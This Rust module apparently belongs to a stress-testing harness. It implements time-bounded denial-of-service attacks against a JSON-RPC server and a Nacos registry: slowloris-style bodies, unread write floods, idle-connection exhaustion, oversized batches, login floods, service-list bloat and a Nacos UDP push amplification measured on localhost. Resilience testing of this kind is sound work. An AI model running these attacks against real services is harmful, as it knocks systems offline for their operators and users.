//! The attacks, each bounded in count and time.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Result};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::Instant;

use net::{HttpConn, IFACE};

use super::*;

pub(super) fn mb(bytes: u64) -> String {
    if bytes < 1_000_000 {
        format!("{:.1} kB", bytes as f64 / 1e3)
    } else {
        format!("{:.1} MB", bytes as f64 / 1e6)
    }
}

/// `conns` connections write `frame`s in batches of 256 and never read; a batch that
/// cannot be written within 1 s counts as blocked (the server stopped reading).
pub(super) async fn never_read(
    addr: SocketAddr,
    conns: usize,
    deadline: Instant,
    frame: fn(i64) -> Vec<u8>,
) -> Result<String> {
    let mut tasks = Vec::new();
    for _ in 0..conns {
        tasks.push(tokio::spawn(async move {
            let mut s = net::connect(addr, None, Some(16 * 1024)).await?;
            let (mut id, mut written, mut state) = (0i64, 0u64, "still read");
            while Instant::now() < deadline {
                let mut batch = Vec::new();
                for _ in 0..256 {
                    id += 1;
                    batch.extend(frame(id));
                }
                match tokio::time::timeout(Duration::from_secs(1), s.write_all(&batch)).await {
                    Ok(Ok(())) => written += batch.len() as u64,
                    Ok(Err(_)) => {
                        state = "closed";
                        break;
                    }
                    Err(_) => {
                        state = "blocked";
                        break;
                    }
                }
            }
            tokio::time::sleep_until(deadline).await;
            drop(s);
            anyhow::Ok((written, state))
        }));
    }
    let mut parts = Vec::new();
    for t in tasks {
        let (written, state) = t.await??;
        parts.push(format!("{} written, {state}", mb(written)));
    }
    Ok(format!("{conns} clients: {}", parts.join("; ")))
}

/// Opens up to `n` connections that send nothing and keeps them open until the deadline:
/// every 250 ms, a connection the server answered or closed is replaced by a new one.
pub(super) async fn idle(addr: SocketAddr, n: usize, deadline: Instant) -> Result<String> {
    async fn open(addr: SocketAddr) -> std::result::Result<TcpStream, String> {
        match tokio::time::timeout(Duration::from_secs(1), TcpStream::connect(addr)).await {
            Ok(Ok(s)) => Ok(s),
            Ok(Err(e)) => Err(e.to_string()),
            Err(_) => Err("connect timeout".into()),
        }
    }
    let mut held: Vec<TcpStream> = Vec::with_capacity(n);
    let (mut failed, mut first_err) = (0usize, None);
    for _ in 0..n {
        if Instant::now() >= deadline {
            break;
        }
        match open(addr).await {
            Ok(s) => held.push(s),
            Err(e) => {
                failed += 1;
                first_err.get_or_insert(e);
            }
        }
    }
    let opened = held.len();
    let mut replaced = 0usize;
    let mut buf = [0u8; 512];
    while Instant::now() + Duration::from_millis(300) < deadline {
        tokio::time::sleep(Duration::from_millis(250)).await;
        for slot in held.iter_mut() {
            if Instant::now() >= deadline {
                break;
            }
            // Data (an error line, a 408) or EOF: the server is done with it.
            if slot.try_read(&mut buf).is_ok() {
                match open(addr).await {
                    Ok(s) => {
                        *slot = s;
                        replaced += 1;
                    }
                    Err(e) => {
                        failed += 1;
                        first_err.get_or_insert(e);
                    }
                }
            }
        }
    }
    let mut note = format!(
        "{opened} idle connections kept open ({replaced} reopened after the server answered or closed them)"
    );
    if failed > 0 {
        note.push_str(&format!(
            ", {failed} connects failed ({})",
            first_err.unwrap_or_default()
        ));
    }
    Ok(note)
}

/// Four connections send `echo(list)` requests of about 4 MB each made of one small list
/// and two million references to it (11 MB/s in all), and read (and discard) the answers.
pub(super) async fn shared_refs(addr: SocketAddr, deadline: Instant) -> Result<String> {
    let frame = Arc::new(net::shared_ref_request(1, 2_000_000, 64));
    let sent = Arc::new(AtomicU64::new(0));
    let answered = Arc::new(AtomicU64::new(0));
    let mut tasks = Vec::new();
    for _ in 0..4 {
        let (frame, sent, answered) = (frame.clone(), sent.clone(), answered.clone());
        tasks.push(tokio::spawn(async move {
            let s = net::connect(addr, None, None).await?;
            let (mut r, mut w) = s.into_split();
            let reader = tokio::spawn(async move {
                let mut buf = vec![0u8; 64 * 1024];
                while let Ok(n) = tokio::io::AsyncReadExt::read(&mut r, &mut buf).await {
                    if n == 0 {
                        break;
                    }
                    answered.fetch_add(n as u64, Ordering::Relaxed);
                }
            });
            // One request per connection every 1.45 s: 11 MB/s over the four, the rate of
            // the issue.
            let mut pace = tokio::time::interval(Duration::from_millis(1450));
            while Instant::now() < deadline {
                pace.tick().await;
                match tokio::time::timeout_at(deadline, w.write_all(&frame)).await {
                    Ok(Ok(())) => {
                        sent.fetch_add(1, Ordering::Relaxed);
                    }
                    _ => break,
                }
            }
            reader.abort();
            anyhow::Ok(())
        }));
    }
    for t in tasks {
        t.await??;
    }
    Ok(format!(
        "4 clients sent {} requests of {} (2M references to a 64-string list, 11 MB/s); {} answered",
        sent.load(Ordering::Relaxed),
        mb(frame.len() as u64),
        mb(answered.load(Ordering::Relaxed))
    ))
}

/// `n` connections send the headers of a 100 kB body, then one byte a second.
pub(super) async fn slow_bodies(
    addr: SocketAddr,
    n: usize,
    path: &str,
    deadline: Instant,
) -> Result<String> {
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
    );
    let mut held = Vec::with_capacity(n);
    let mut failed = 0;
    for _ in 0..n {
        if Instant::now() >= deadline {
            break;
        }
        match tokio::time::timeout(Duration::from_secs(1), TcpStream::connect(addr)).await {
            Ok(Ok(mut s)) => {
                if s.write_all(head.as_bytes()).await.is_ok() {
                    held.push(Some(s));
                } else {
                    failed += 1;
                }
            }
            _ => failed += 1,
        }
    }
    let opened = held.len();
    let mut closed = 0;
    while Instant::now() + Duration::from_secs(1) < deadline {
        tokio::time::sleep(Duration::from_secs(1)).await;
        for slot in held.iter_mut() {
            if let Some(s) = slot {
                if s.try_write(b" ").is_err() {
                    closed += 1;
                    *slot = None;
                }
            }
        }
    }
    let mut buf = [0u8; 512];
    for s in held.iter().flatten() {
        if s.try_read(&mut buf).is_ok() {
            closed += 1; // answered (e.g. 408) or closed
        }
    }
    let mut note = format!("{opened} slow connections, {closed} answered or closed by the server");
    if failed > 0 {
        note.push_str(&format!(", {failed} could not connect"));
    }
    Ok(note)
}

/// A JSON-RPC batch of `entries` `echo` calls of 64 characters (about 100 bytes each).
pub(super) fn batch_body(entries: usize) -> Vec<u8> {
    let arg = "y".repeat(64);
    let mut body = String::from("[");
    for i in 0..entries {
        if i > 0 {
            body.push(',');
        }
        body.push_str(&format!(
            r#"{{"jsonrpc":"2.0","id":{i},"method":"echo","params":["{arg}"]}}"#
        ));
    }
    body.push(']');
    body.into_bytes()
}

/// Two clients post batches of 20,000 calls (1.9 MB) in a loop and read the answers.
pub(super) async fn huge_batch(addr: SocketAddr, deadline: Instant) -> Result<String> {
    let body = Arc::new(batch_body(20_000));
    let mut tasks = Vec::new();
    for _ in 0..2 {
        let body = body.clone();
        tasks.push(tokio::spawn(async move {
            let (mut n, mut largest, mut statuses) =
                (0u64, 0u64, std::collections::BTreeSet::new());
            while Instant::now() < deadline {
                let r = tokio::time::timeout_at(deadline, async {
                    let mut c = HttpConn::connect(addr, None).await?;
                    c.request_discard("POST", &format!("/{IFACE}"), &body).await
                })
                .await;
                match r {
                    Ok(Ok((status, len))) => {
                        n += 1;
                        largest = largest.max(len);
                        statuses.insert(status);
                    }
                    Ok(Err(_)) => {
                        statuses.insert(0);
                    }
                    Err(_) => break,
                }
            }
            (n, largest, statuses)
        }));
    }
    let (mut n, mut largest, mut statuses) = (0, 0, std::collections::BTreeSet::new());
    for t in tasks {
        let (a, b, c) = t.await?;
        n += a;
        largest = largest.max(b);
        statuses.extend(c);
    }
    Ok(format!(
        "{n} batches of 20,000 calls ({}) answered, largest answer {}, HTTP status {statuses:?}",
        mb(body.len() as u64),
        mb(largest)
    ))
}

/// Sixteen connections each post a batch of 20,000 calls and never read the answer.
pub(super) async fn unread_batches(addr: SocketAddr, deadline: Instant) -> Result<String> {
    let body = batch_body(20_000);
    let mut req = format!(
        "POST /{IFACE} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    req.extend(body);
    let req = Arc::new(req);
    let mut tasks = Vec::new();
    for _ in 0..16 {
        let req = req.clone();
        tasks.push(tokio::spawn(async move {
            let mut s = net::connect(addr, None, Some(16 * 1024)).await?;
            let done = matches!(
                tokio::time::timeout_at(deadline, s.write_all(&req)).await,
                Ok(Ok(()))
            );
            tokio::time::sleep_until(deadline).await;
            drop(s);
            anyhow::Ok(done)
        }));
    }
    let mut whole = 0;
    for t in tasks {
        if t.await?? {
            whole += 1;
        }
    }
    Ok(format!(
        "16 clients posted a batch of 20,000 calls ({}), {whole} sent whole; no answer read",
        mb(req.len() as u64)
    ))
}

/// Eight keep-alive connections log in `n` times with the right credentials.
pub(super) async fn logins(addr: SocketAddr, n: usize, deadline: Instant) -> Result<String> {
    let left = Arc::new(AtomicU64::new(n as u64));
    let ok = Arc::new(AtomicU64::new(0));
    let refused = Arc::new(AtomicU64::new(0));
    let body = format!("username={}&password={}", target::USER, target::PASSWORD);
    let mut tasks = Vec::new();
    for _ in 0..8 {
        let (left, ok, refused, body) = (left.clone(), ok.clone(), refused.clone(), body.clone());
        tasks.push(tokio::spawn(async move {
            let mut conn: Option<HttpConn> = None;
            while Instant::now() < deadline
                && left
                    .fetch_update(Ordering::Relaxed, Ordering::Relaxed, |l| l.checked_sub(1))
                    .is_ok()
            {
                if conn.is_none() {
                    conn = HttpConn::connect(addr, None).await.ok();
                }
                let Some(c) = conn.as_mut() else { continue };
                match tokio::time::timeout_at(
                    deadline,
                    c.request("POST", "/nacos/v1/auth/login", body.as_bytes()),
                )
                .await
                {
                    Ok(Ok((200, _))) => {
                        ok.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(Ok(_)) => {
                        refused.fetch_add(1, Ordering::Relaxed);
                    }
                    Ok(Err(_)) => {
                        refused.fetch_add(1, Ordering::Relaxed);
                        conn = None;
                    }
                    Err(_) => break,
                }
            }
        }));
    }
    for t in tasks {
        t.await?;
    }
    Ok(format!(
        "{} logins answered 200, {} refused or failed (of {n} planned)",
        ok.load(Ordering::Relaxed),
        refused.load(Ordering::Relaxed)
    ))
}

/// Subscribes `ports` UDP ports of 127.0.0.1 to a service (list queries with `udpPort`),
/// then registers an instance in it every 250 ms; counts the UDP bytes those ports receive
/// (never acked) against the bytes of the registrations.
pub(super) async fn udp_amplification(
    addr: SocketAddr,
    ports: usize,
    deadline: Instant,
) -> Result<String> {
    let received = Arc::new(AtomicU64::new(0));
    let mut sockets = Vec::new();
    for _ in 0..ports {
        let s = tokio::net::UdpSocket::bind("127.0.0.1:0").await?;
        let port = s.local_addr()?.port();
        let received = received.clone();
        sockets.push((
            port,
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                while let Ok(n) = s.recv(&mut buf).await {
                    received.fetch_add(n as u64, Ordering::Relaxed);
                }
            }),
        ));
    }
    let mut c = HttpConn::connect(addr, None).await?;
    let mut subscribed = 0;
    for (port, _) in &sockets {
        let path = format!(
            "/nacos/v1/ns/instance/list?serviceName=hostile-amp&udpPort={port}&clientIP=127.0.0.1"
        );
        if let Ok((200, _)) = c.request("GET", &path, b"").await {
            subscribed += 1;
        }
    }
    let (mut sent, mut registrations) = (0u64, 0u32);
    while Instant::now() + Duration::from_millis(1500) < deadline {
        let path = format!(
            "/nacos/v1/ns/instance?serviceName=hostile-amp&ip=10.9.{}.{}&port=9000&ephemeral=true",
            registrations / 250,
            registrations % 250 + 1
        );
        sent += (path.len() + 60) as u64; // request line and headers, roughly
        c.request("POST", &path, b"").await?;
        registrations += 1;
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    // Pushes (and their re-sends) still on the way.
    tokio::time::sleep_until(deadline).await;
    for (_, t) in sockets {
        t.abort();
    }
    let got = received.load(Ordering::Relaxed);
    Ok(format!(
        "{ports} UDP ports subscribed ({subscribed} queries answered 200); {registrations} registrations ({}) → {} of UDP pushes received ({:.0}×)",
        mb(sent),
        mb(got),
        got as f64 / sent.max(1) as f64
    ))
}

/// Registers `n` instances in one service (eight keep-alive connections, at most half the
/// attack's time), then four clients fetch the whole list in a loop.
pub(super) async fn big_list(addr: SocketAddr, n: usize, deadline: Instant) -> Result<String> {
    let next = Arc::new(AtomicU64::new(0));
    let start = Instant::now();
    let register_until = start + (deadline - start) / 2;
    let mut tasks = Vec::new();
    for _ in 0..8 {
        let next = next.clone();
        tasks.push(tokio::spawn(async move {
            let mut c = HttpConn::connect(addr, None).await?;
            loop {
                let i = next.fetch_add(1, Ordering::Relaxed) as usize;
                if i >= n || Instant::now() >= register_until {
                    return anyhow::Ok(());
                }
                let path = format!(
                    "/nacos/v1/ns/instance?serviceName=hostile-big&ip=10.{}.{}.{}&port=7000&ephemeral=true&metadata=%7B%22app%22%3A%22hostile%22%7D",
                    i >> 16,
                    (i >> 8) & 255,
                    i & 255
                );
                let (status, body) = c.request("POST", &path, b"").await?;
                if status != 200 {
                    bail!("registration {i}: HTTP {status} {}", String::from_utf8_lossy(&body));
                }
            }
        }));
    }
    for t in tasks {
        t.await??;
    }
    let registered = (next.load(Ordering::Relaxed) as usize).min(n) as u64;
    let reg_secs = start.elapsed().as_secs_f64();
    let lists = Arc::new(AtomicU64::new(0));
    let largest = Arc::new(AtomicU64::new(0));
    let smallest = Arc::new(AtomicU64::new(u64::MAX));
    let mut tasks = Vec::new();
    for _ in 0..4 {
        let (lists, largest, smallest) = (lists.clone(), largest.clone(), smallest.clone());
        tasks.push(tokio::spawn(async move {
            while Instant::now() < deadline {
                let r = tokio::time::timeout_at(deadline, async {
                    let mut c = HttpConn::connect(addr, None).await?;
                    c.request_discard(
                        "GET",
                        "/nacos/v1/ns/instance/list?serviceName=hostile-big",
                        b"",
                    )
                    .await
                })
                .await;
                match r {
                    Ok(Ok((200, len))) => {
                        lists.fetch_add(1, Ordering::Relaxed);
                        largest.fetch_max(len, Ordering::Relaxed);
                        smallest.fetch_min(len, Ordering::Relaxed);
                    }
                    Ok(_) => tokio::time::sleep(Duration::from_millis(50)).await,
                    Err(_) => break,
                }
            }
        }));
    }
    for t in tasks {
        t.await?;
    }
    Ok(format!(
        "{registered} instances registered in {reg_secs:.1} s; {} whole lists of {}–{} fetched by 4 clients",
        lists.load(Ordering::Relaxed),
        mb(smallest.load(Ordering::Relaxed).min(largest.load(Ordering::Relaxed))),
        mb(largest.load(Ordering::Relaxed))
    ))
}
